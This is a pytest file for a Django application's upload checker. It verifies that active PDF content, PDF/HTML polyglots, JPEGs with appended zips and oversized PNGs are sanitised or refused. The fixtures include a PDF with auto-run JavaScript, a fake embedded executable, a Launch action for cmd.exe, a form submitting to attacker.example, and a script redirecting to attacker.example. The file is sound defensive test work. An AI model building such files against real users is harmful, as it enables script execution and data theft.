"""Uploads that carry code (issue 11, point 5): rewritten or refused, checked with poppler's tools."""

import io
import struct
import subprocess
import zipfile
import zlib

import pikepdf
import pytest
from django.urls import reverse
from PIL import Image

from workinfrance.dossiers import services
from workinfrance.dossiers.errors import UploadRefused
from workinfrance.dossiers.uploads import upload_check

from tests.dossiers.helpers import upload
from tests.factories import PDF_BYTES, DossierFactory

SCRIPT = "app.alert('owned')"


def active_pdf() -> bytes:
    """A PDF with every kind of active content: open action, document and page scripts, an
    embedded file, an attached file, a form with a submit action, a link that launches a program."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    js = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(SCRIPT)))
    pdf.Root.OpenAction = js
    pdf.Root.AA = pikepdf.Dictionary(WC=js)
    payload = pikepdf.Stream(pdf, b"MZ\x90\x00 payload.exe")
    payload.Type = pikepdf.Name.EmbeddedFile
    filespec = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Filespec, F=pikepdf.String("payload.exe"), EF=pikepdf.Dictionary(F=payload)
        )
    )
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("doc"), js])),
        EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("payload.exe"), filespec])),
    )
    page = pdf.pages[0].obj
    page.AA = pikepdf.Dictionary(O=js)
    field = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            FT=pikepdf.Name.Btn,
            T=pikepdf.String("send"),
            Rect=pikepdf.Array([10, 10, 60, 30]),
            A=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://attacker.example/")),
            AA=pikepdf.Dictionary(E=js),
        )
    )
    launch = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=pikepdf.Array([10, 40, 60, 60]),
            A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")),
        )
    )
    attachment = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.FileAttachment,
            Rect=pikepdf.Array([70, 70, 90, 90]),
            FS=filespec,
        )
    )
    page.Annots = pdf.make_indirect(pikepdf.Array([field, launch, attachment]))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def poppler(tmp_path, tool: str, option: str, data: bytes) -> str:
    path = tmp_path / "check.pdf"
    path.write_bytes(data)
    return subprocess.run([tool, option, str(path)], capture_output=True, text=True, check=True).stdout


def test_a_pdf_loses_scripts_actions_embedded_files_and_forms(tmp_path):
    data = active_pdf()
    # The bad file is what it claims to be, seen by another implementation (poppler).
    assert SCRIPT in poppler(tmp_path, "pdfinfo", "-js", data)
    assert "payload.exe" in poppler(tmp_path, "pdfdetach", "-list", data)

    stored = upload_check(upload(data, "contrat.pdf")).file.read()
    assert SCRIPT not in poppler(tmp_path, "pdfinfo", "-js", stored)
    assert "payload.exe" not in poppler(tmp_path, "pdfdetach", "-list", stored)
    assert "Pages:           1" in poppler(tmp_path, "pdfinfo", "-box", stored)
    with pikepdf.open(io.BytesIO(stored)) as clean:
        assert not {"/OpenAction", "/AA", "/AcroForm", "/Names"} & set(clean.Root.keys())
        page = clean.pages[0].obj
        assert "/AA" not in page
        annotations = list(page.get("/Annots", []))
        assert all(annotation.get("/Subtype") != "/FileAttachment" for annotation in annotations)
        assert all("/A" not in annotation and "/AA" not in annotation for annotation in annotations)
    for marker in (b"JavaScript", b"Launch", b"SubmitForm", b"EmbeddedFile", b"MZ\x90"):
        assert marker not in stored


def test_a_pdf_html_polyglot_keeps_only_its_pdf(tmp_path):
    html = b"<html><body><script>document.location='https://attacker.example'</script></body></html>"
    header, rest = PDF_BYTES.split(b"\n", 1)
    polyglot = header + b"\n%" + html + b"\n" + rest + html  # in a comment, and after the end
    stored = upload_check(upload(polyglot, "contrat.pdf")).file.read()
    assert b"<script" not in stored and b"<html" not in stored
    assert "Pages:           1" in poppler(tmp_path, "pdfinfo", "-box", stored)


def test_a_jpeg_with_a_zip_appended_is_drawn_again_without_it():
    image = io.BytesIO()
    exif = Image.Exif()
    exif[0x010F] = "Camera"  # the maker: metadata that must not survive
    Image.new("RGB", (64, 48), (200, 30, 30)).save(image, format="JPEG", exif=exif)
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("evil.html", "<script>alert(1)</script>")
    data = image.getvalue() + archive.getvalue()
    assert zipfile.is_zipfile(io.BytesIO(data))

    stored = upload_check(upload(data, "photo.jpg", "image/jpeg")).file.read()
    assert not zipfile.is_zipfile(io.BytesIO(stored))
    assert b"PK\x03\x04" not in stored and b"Camera" not in stored
    with Image.open(io.BytesIO(stored)) as again:
        assert (again.format, again.size) == ("JPEG", (64, 48))
        again.load()
        assert not again.getexif()


def huge_png(width: int, height: int) -> bytes:
    """A real, decodable 1-bit PNG (112 MB of pixels for 30000 × 30000), made row by row."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    compressor = zlib.compressobj(9)
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def test_an_image_over_the_pixel_limit_is_refused_before_it_is_decoded(settings):
    with pytest.raises(UploadRefused) as raised:
        upload_check(upload(huge_png(30000, 30000), "scan.png", "image/png"))
    assert "trop grande" in raised.value.message and "40 millions de pixels" in raised.value.message
    settings.WIF_UPLOAD_MAX_PIXELS = 300 * 200
    assert upload_check(upload(huge_png(300, 200), "scan.png", "image/png")).size > 0
    with pytest.raises(UploadRefused):
        upload_check(upload(huge_png(301, 200), "scan.png", "image/png"))


@pytest.mark.parametrize(
    ("name", "declared"),
    [
        ("x.html", "application/pdf"),  # the name says HTML
        ("contrat.pdf", "text/html"),  # the browser says HTML
        ("photo.png", "image/png"),  # a PDF called an image
    ],
)
def test_declared_and_detected_types_must_agree(name, declared):
    with pytest.raises(UploadRefused) as raised:
        upload_check(upload(PDF_BYTES, name, declared))
    assert "ne correspond pas à son contenu" in raised.value.message


@pytest.mark.parametrize(
    ("name", "declared"), [("contrat.PDF", "application/pdf"), ("contrat", "application/octet-stream")]
)
def test_a_pdf_named_and_declared_as_one_is_accepted(name, declared):
    assert upload_check(upload(PDF_BYTES, name, declared)).content_type == "application/pdf"


def test_stored_and_downloaded_under_the_service_name_and_the_detected_extension(client, applicant):
    dossier = DossierFactory(applicant=applicant)
    passport = dossier.category.document_types.get(code="passport")
    document = services.document_upload(
        dossier=dossier, actor=applicant, document_type=passport, uploaded_file=upload(PDF_BYTES, "passeport")
    )
    stored = document.file.name.rsplit("/", 1)[1]
    assert stored.endswith(".pdf") and "passeport" not in stored
    client.force_login(applicant)
    response = client.get(
        reverse("applicant:document", kwargs={"uuid": dossier.uuid, "document_id": document.pk})
    )
    assert response["Content-Disposition"].startswith("attachment")
    assert 'filename="passeport.pdf"' in response["Content-Disposition"]
    assert response["Content-Type"] == "application/pdf"
